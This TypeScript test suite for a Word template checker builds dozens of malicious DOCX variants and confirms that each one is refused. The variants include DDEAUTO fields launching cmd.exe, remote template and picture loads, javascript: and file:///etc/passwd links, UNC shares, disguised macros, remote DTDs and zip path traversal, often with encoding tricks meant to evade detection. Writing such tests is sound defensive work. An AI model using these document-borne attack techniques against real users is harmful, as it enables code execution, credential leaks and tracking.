import assert from 'node:assert/strict'
import PizZip from 'pizzip'
import { checkTemplate } from '#shared/documents/own-templates/check.ts'
import { TemplateInvalid } from '#shared/documents/own-templates/problems.ts'
import { madeZip } from './made-files.ts'
import {
  type Change,
  field,
  inBody,
  inPart,
  inSettings,
  madeTemplate,
  OFFICE,
  PNG,
  paragraph,
  readPart,
  run,
  withPart,
  withRelationship,
} from './made-templates.ts'

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const SETTINGS_RELS = 'word/_rels/settings.xml.rels'
const external = (type: string, target: string, mode = 'TargetMode="External"') =>
  `Id="rIdX" Type="${OFFICE}/${type}" Target="${target}" ${mode}`
const OLE = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)])
const archive = () => Buffer.from(new PizZip().file('a.txt', 'a').generate({ type: 'uint8array' }))

/** Writes a part in UTF-16, as its declaration says. */
function inUtf16(path: string, { order = 'le', mark = true } = {}): Change {
  return (zip) => {
    const text = readPart(zip, path).replace(/^<\?xml[^>]*\?>\s*/, '<?xml version="1.0" encoding="UTF-16"?>')
    const bytes = Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le')
    zip.file(path, order === 'le' ? bytes : bytes.swap16())
  }
}
const steps =
  (...changes: Change[]): Change =>
  (zip) => {
    for (const change of changes) change(zip)
  }
const drawing = (inside: string) =>
  paragraph(
    `<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="x"/>${inside}</wp:inline></w:drawing></w:r>`,
  )
const picture = (blip: string) =>
  drawing(
    `<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>${blip}</pic:pic></a:graphicData></a:graphic>`,
  )

/** What stands in an archive entry by entry, so that it can be written in ways that no library would. */
function entriesOf(bytes: Uint8Array) {
  return Object.values(new PizZip(bytes).files).map((file) => ({
    name: file.name,
    data: Buffer.from(file.asUint8Array()),
  }))
}
const letter = () => entriesOf(madeTemplate())

const cases: [name: string, bytes: () => Uint8Array, refusedBecause: RegExp][] = [
  ...(
    [
      // Loaded from elsewhere, whatever way it is written.
      [
        'a template of its own',
        steps(
          inSettings(
            '<w:attachedTemplate r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>',
          ),
          withRelationship(external('attachedTemplate', 'http://203.0.113.1/x.dotm'), SETTINGS_RELS),
        ),
        /loads parts from elsewhere \("attachedTemplate"\)/,
      ],
      [
        'a template of its own under another prefix',
        inSettings('<x:attachedTemplate xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'),
        /settings\.xml: .*attachedTemplate.*loads or runs/,
      ],
      [
        'an external picture by character references',
        withRelationship(external('image', 'http://203.0.113.1/x.png', 'TargetMode="&#x45;xternal"')),
        /elsewhere \("image"\)/,
      ],
      [
        'an external relationship under another prefix',
        inPart(
          'word/_rels/document.xml.rels',
          '</Relationships>',
          `<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" ${external('image', 'http://203.0.113.1/x.png')}/></Relationships>`,
        ),
        /elsewhere \("image"\)/,
      ],
      [
        'an external relationship behind > in an attribute',
        withRelationship(`Id="a>b" ${external('image', 'http://203.0.113.1/').replace('Id="rIdX" ', '')}`),
        /elsewhere \("image"\)/,
      ],
      [
        'an external relationship in UTF-16',
        steps(withRelationship(external('image', 'http://203.0.113.1/')), inUtf16('word/_rels/document.xml.rels')),
        /elsewhere \("image"\)/,
      ],
      [
        'an external relationship in UTF-16 BE',
        steps(
          withRelationship(external('image', 'http://203.0.113.1/')),
          inUtf16('word/_rels/document.xml.rels', { order: 'be' }),
        ),
        /elsewhere \("image"\)/,
      ],
      [
        'an external relationship in UTF-16 without a mark',
        steps(
          withRelationship(external('image', 'http://203.0.113.1/')),
          inUtf16('word/_rels/document.xml.rels', { mark: false }),
        ),
        /elsewhere \("image"\)/,
      ],
      [
        'an external relationship with single quotes and line breaks',
        withRelationship(
          `Id='rIdX'\n Type='${OFFICE}/oleObject'\n Target='http://203.0.113.1/'\n TargetMode\n=\n'External'`,
        ),
        /elsewhere \("oleObject"\)/,
      ],
      [
        'a picture said to be inside that is elsewhere',
        withRelationship(external('image', 'http://203.0.113.1/x.png', 'TargetMode="Internal"')),
        /not in the file/,
      ],
      ['a picture on a share', withRelationship(external('image', '\\\\203.0.113.1\\x.png', '')), /not in the file/],
      [
        'an unknown mode of target',
        withRelationship(external('image', 'http://203.0.113.1/x.png', 'TargetMode="external"')),
        /unknown mode/,
      ],
      [
        'a document below',
        steps(
          inBody('<w:subDoc r:id="rIdX"/>'),
          withRelationship(external('subDocument', 'http://203.0.113.1/x.docx')),
        ),
        /"w:subDoc".*loads or runs[\s\S]*|elsewhere \("subDocument"\)/,
      ],
      [
        'a source for mail merge',
        steps(inSettings('<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>')),
        /"w:mailMerge"/,
      ],
      [
        'frames',
        withPart(
          'word/webSettings.xml',
          '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset/></w:webSettings>',
          `${WORD}.webSettings+xml`,
        ),
        /"w:frameset"/,
      ],
      ['a linked picture', inBody(picture('<a:blip r:link="rIdX"/>')), /"a:blip link" loads something/],
      [
        'a picture of VML by its address',
        inBody(
          paragraph('<w:r><w:pict><v:shape><v:imagedata src="http://203.0.113.1/x.png"/></v:shape></w:pict></w:r>'),
        ),
        /"v:imagedata" loads something from elsewhere \(src\)/,
      ],
      [
        'a picture of VML by r:href',
        inBody(paragraph('<w:r><w:pict><v:shape><v:imagedata r:href="rIdX"/></v:shape></w:pict></w:r>')),
        /"v:imagedata href" loads/,
      ],
      [
        'a fill of VML from a share',
        inBody(paragraph('<w:r><w:pict><v:rect><v:fill o:althref="\\\\203.0.113.1\\x"/></v:rect></w:pict></w:r>')),
        /althref/,
      ],
      ['a video', inBody(picture('<a:videoFile r:link="rIdX"/>')), /"a:videoFile"/],
      [
        'a style sheet for XML',
        inPart('word/document.xml', '?>', '?><?xml-stylesheet href="http://203.0.113.1/x.xsl"?>'),
        /instructions for other programs/,
      ],
      ['an XSLT to save through', inSettings('<w:saveThroughXslt w:solutionID="x"/>'), /"w:saveThroughXslt"/],
      [
        'a base for its links',
        steps(
          withPart(
            'docProps/app.xml',
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\\\203.0.113.1\\</HyperlinkBase></Properties>',
            'application/vnd.openxmlformats-officedocument.extended-properties+xml',
          ),
        ),
        /Hyperlink base/,
      ],
      // Links.
      [
        'a link that runs a script',
        withRelationship(external('hyperlink', 'javascript:alert(1)')),
        /A link leads to "javascript/,
      ],
      [
        'a link that runs a script by character references',
        withRelationship(external('hyperlink', '&#106;avascript:alert(1)')),
        /A link leads to "javascript/,
      ],
      ['a link to a file', withRelationship(external('hyperlink', 'file:///etc/passwd')), /A link leads to "file/],
      ['a link to a share', withRelationship(external('hyperlink', '\\\\203.0.113.1\\x')), /A link leads to/],
      [
        'a link that opens a program',
        withRelationship(external('hyperlink', 'ms-word:ofe|u|http://203.0.113.1/x')),
        /A link leads to "ms-word/,
      ],
      [
        'a link of VML that runs a script',
        inBody(paragraph('<w:r><w:pict><v:rect href="JavaScript:alert(1)"/></w:pict></w:r>')),
        /A link leads to "JavaScript/,
      ],
      [
        'an action on a picture',
        inBody(drawing('<wp:docPr id="2" name="y"><a:hlinkClick r:id="" action="ppaction://program"/></wp:docPr>')),
        /action/,
      ],
      // Fields.
      [
        'a field that loads a picture',
        inBody(field(['INCLUDEPICTURE "http://203.0.113.1/x.png" \\d'])),
        /field "INCLUDEPICTURE" is not taken/,
      ],
      [
        'a field that loads text, simple',
        inBody('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://203.0.113.1/x&quot; "/></w:p>'),
        /field "INCLUDETEXT"/,
      ],
      [
        'a field that starts a program',
        inBody(field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'])),
        /field "DDEAUTO"/,
      ],
      ['a field in pieces', inBody(field(['INC', 'LUDE', 'PICTURE "http://203.0.113.1/"'])), /field "INCLUDEPICTURE"/],
      ['a field by character references', inBody(field(['&#68;DE c:\\\\x'])), /field "DDE"/],
      [
        'a field under another prefix',
        inBody(
          '<w:p><q:fldSimple xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main" q:instr="IMPORT x"/></w:p>',
        ),
        /field "IMPORT"/,
      ],
      [
        'a field in another',
        inBody(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>${field(['QUOTE 1']).replace(/<\/?w:p>/g, '')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
        /in the instruction of another|"QUOTE"/,
      ],
      ['a field whose instruction is a tag', inBody(field(['HYPERLINK "{name}"'])), /tag stands in the instruction/],
      [
        'a field whose instruction is plain text',
        inBody(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${run('INCLUDETEXT x')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
        /field "INCLUDETEXT"/,
      ],
      ['a field that never ends', inBody('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'), /does not end/],
      [
        'a field in a tracked change',
        inBody(
          `<w:p><w:del><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>PAGE</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>`,
        ),
        /tracked change/,
      ],
      [
        'a field that links to a script',
        inBody(field(['HYPERLINK "javascript:alert(1)"'])),
        /A link leads to "javascript/,
      ],
      ['a field that asks', inBody(field(['ASK x "y"'])), /field "ASK"/],
      [
        'a field of a form with a macro',
        inBody(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
        /"w:ffData"/,
      ],
      [
        'data bound to a field',
        inBody('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="y"/></w:sdtPr><w:sdtContent/></w:sdt>'),
        /"w:dataBinding"/,
      ],
      // Parts.
      ['macros', withPart('word/vbaProject.bin', OLE, 'application/vnd.ms-office.vbaProject'), /macros/],
      [
        'macros under the name and type of a picture',
        withPart('word/media/a.png', OLE, 'image/png'),
        /a\.png: The file has macros/,
      ],
      [
        'macros under the type of a font',
        withPart('word/fonts/a.odttf', OLE, 'application/vnd.openxmlformats-officedocument.obfuscatedFont'),
        /macros/,
      ],
      [
        'a type for macros',
        inPart(
          '[Content_Types].xml',
          `${WORD}.document.main+xml`,
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
        /macros/,
      ],
      [
        'an embedded file under another name',
        withPart('word/theme/theme2.xml', archive(), 'application/vnd.openxmlformats-officedocument.theme+xml'),
        /another archive or document/,
      ],
      [
        'an embedded object by its relationship',
        steps(
          withPart('word/media/a.png', PNG, 'image/png'),
          withRelationship(external('oleObject', 'media/a.png', '')),
        ),
        /of the kind "oleObject"/,
      ],
      [
        'an object',
        inBody(paragraph('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object></w:r>')),
        /"w:object"[\s\S]*"o:OLEObject"/,
      ],
      [
        'a control',
        steps(
          inBody(paragraph('<w:r><w:control r:id="rIdX" w:name="x"/></w:r>')),
          withPart('word/x.xml', '<x/>', 'application/vnd.ms-office.activeX+xml'),
        ),
        /embedded objects/,
      ],
      [
        'another document inside',
        steps(
          inBody('<w:altChunk r:id="rIdX"/>'),
          withPart('word/a.html', '<html>x</html>', 'text/html'),
          withRelationship(external('aFChunk', 'a.html', '')),
        ),
        /web page[\s\S]*"aFChunk"[\s\S]*"w:altChunk"/,
      ],
      [
        'another document inside, called XML',
        steps(inBody('<w:altChunk r:id="rIdX"/>'), withPart('word/a.xml', 'MIME-Version: 1.0\n\nx', 'application/xml')),
        /web page/,
      ],
      ['RTF under the name of a picture', withPart('word/media/a.jpeg', '{\\rtf1}', 'image/jpeg'), /RTF/],
      ['a program', withPart('word/media/a.bmp', 'MZ\u0090', 'image/bmp'), /a program/],
      ['a picture that is none', withPart('word/media/a.png', 'not a picture', 'image/png'), /no picture of the kind/],
      ['a part that does not say what it is', withPart('word/a.bin', 'x'), /does not say what it is/],
      [
        'a chart',
        withPart('word/charts/chart1.xml', '<x/>', 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml'),
        /a chart or SmartArt/,
      ],
      [
        'a toolbar',
        withRelationship(
          'Id="u" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="word/document.xml"',
          '_rels/.rels',
        ),
        /of the kind "extensibility"/,
      ],
      [
        'two documents',
        withRelationship(`Id="u" Type="${OFFICE}/officeDocument" Target="word/document.xml"`, '_rels/.rels'),
        /"officeDocument" twice/,
      ],
      [
        'a type told twice',
        inPart('[Content_Types].xml', '</Types>', '<Default Extension="XML" ContentType="text/html"/></Types>'),
        /says twice what/,
      ],
      [
        'a part of another kind than it says',
        inPart('[Content_Types].xml', `${WORD}.settings+xml`, `${WORD}.styles+xml`),
        /not what its content type says/,
      ],
      [
        'Strict Open XML',
        inPart(
          'word/document.xml',
          'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
          'http://purl.oclc.org/ooxml/wordprocessingml/main',
        ),
        /Strict Open XML/,
      ],
      [
        'two sets of styles',
        steps(
          withPart(
            'word/styles2.xml',
            '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            `${WORD}.styles+xml`,
          ),
          withRelationship(`Id="rIdS" Type="${OFFICE}/styles" Target="styles2.xml"`),
        ),
        /"styles" twice/,
      ],
      [
        'a style twice',
        inPart('word/styles.xml', '</w:styles>', '<w:style w:styleId="Title"/></w:styles>'),
        /says the same thing/,
      ],
      [
        'a setting twice',
        inBody(paragraph(run('x', '<w:color w:val="000000"/><w:color w:val="FFFFFF"/>'))),
        /says the same thing/,
      ],
      [
        'settings as a choice',
        inBody(
          paragraph(
            run('x', '<mc:AlternateContent><mc:Choice Requires="w14"><w:vanish/></mc:Choice></mc:AlternateContent>'),
          ),
        ),
        /in two versions/,
      ],
      // XML.
      ['entities', inPart('word/styles.xml', '?>', '?><!DOCTYPE x [<!ENTITY a "b">]>'), /document type/],
      [
        'a document type in UTF-16',
        steps(
          inPart('word/styles.xml', '?>', '?><!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">'),
          inUtf16('word/styles.xml'),
        ),
        /document type/,
      ],
      [
        'an encoding that is none of Word’s',
        inPart('word/document.xml', 'UTF-8', 'UTF-7'),
        /not written in UTF-8 or UTF-16/,
      ],
      ['an encoding that lies', inPart('word/document.xml', 'UTF-8', 'UTF-16'), /says something else than it is/],
      [
        'bytes that are no UTF-8',
        withPart('word/document.xml', Buffer.from([0x3c, 0x61, 0xff, 0x2f, 0x3e])),
        /not written in UTF-8/,
      ],
      ['XML 1.1', inPart('word/document.xml', 'version="1.0"', 'version="1.1"'), /no XML 1\.0/],
      ['XML that is not closed', inPart('word/document.xml', '</w:document>', ''), /no well-formed XML/],
      ['a prefix for two things', inBody('<w:p xmlns:w="urn:x"/>'), /prefix w/],
      ['elements of nobody', inBody('<x:script xmlns:x="urn:x">1</x:script>'), /"x:script" that is not Word's own/],
    ] as [string, Change, RegExp][]
  ).map(([name, change, because]): [string, () => Uint8Array, RegExp] => [name, () => madeTemplate(change), because]),
  // Archives.
  ['a part twice', () => madeZip([...letter(), ...letter().slice(1, 2)]), /twice/],
  [
    'a part twice in another case',
    () => madeZip([...letter(), { name: 'WORD/Document.xml', data: Buffer.from('<x/>') }]),
    /twice/,
  ],
  ['a part above', () => madeZip([...letter(), { name: '../x.xml', data: Buffer.from('<x/>') }]), /lead elsewhere/],
  [
    'a part with a backslash',
    () => madeZip([...letter(), { name: 'word\\x.xml', data: Buffer.from('<x/>') }]),
    /lead elsewhere/,
  ],
  ['a part at the root', () => madeZip([...letter(), { name: '/x.xml', data: Buffer.from('<x/>') }]), /lead elsewhere/],
  [
    'relationships in capitals',
    () => madeZip([...letter(), { name: 'word/_RELS/settings.xml.rels', data: Buffer.from('<x/>') }]),
    /that no word processor gives/,
  ],
  [
    'a name with a control character',
    () => madeZip([...letter(), { name: 'word/\u0001.xml', data: Buffer.from('<x/>') }]),
    /that no word processor gives/,
  ],
  [
    'a size that lies',
    () => madeZip(letter().map((entry, at) => (at === 0 ? { ...entry, sizeBytes: 5 } : entry))),
    /damaged|contradicts/,
  ],
  [
    'another name before the file than in the list',
    () => {
      const bytes = Buffer.from(madeTemplate())
      bytes.write('word/stylez.xml', bytes.indexOf('word/styles.xml'), 'latin1')
      return bytes
    },
    /contradicts itself about the part "word\/styles\.xml"/,
  ],
  [
    'a checksum that lies',
    () => {
      const bytes = Buffer.from(madeTemplate())
      for (let at = bytes.indexOf('PK\u0001\u0002'); at >= 0; at = bytes.indexOf('PK\u0001\u0002', at + 4))
        bytes.writeUInt32LE(7, at + 16)
      for (let at = bytes.indexOf('PK\u0003\u0004'); at >= 0; at = bytes.indexOf('PK\u0003\u0004', at + 4))
        bytes.writeUInt32LE(7, at + 14)
      return bytes
    },
    /contradicts itself/,
  ],
]

describe('templates that load, run or hide something', function () {
  this.timeout(20_000)

  for (const [name, bytes, because] of cases)
    it(`are refused by name: ${name}`, async () => {
      const problem = await checkTemplate(bytes()).then(
        () => assert.fail('it was accepted'),
        (error: unknown) => error,
      )
      assert.ok(problem instanceof TemplateInvalid, String(problem))
      assert.match(problem.issues.map(({ where, message }) => `${where}: ${message}`).join('\n'), because)
    })
})
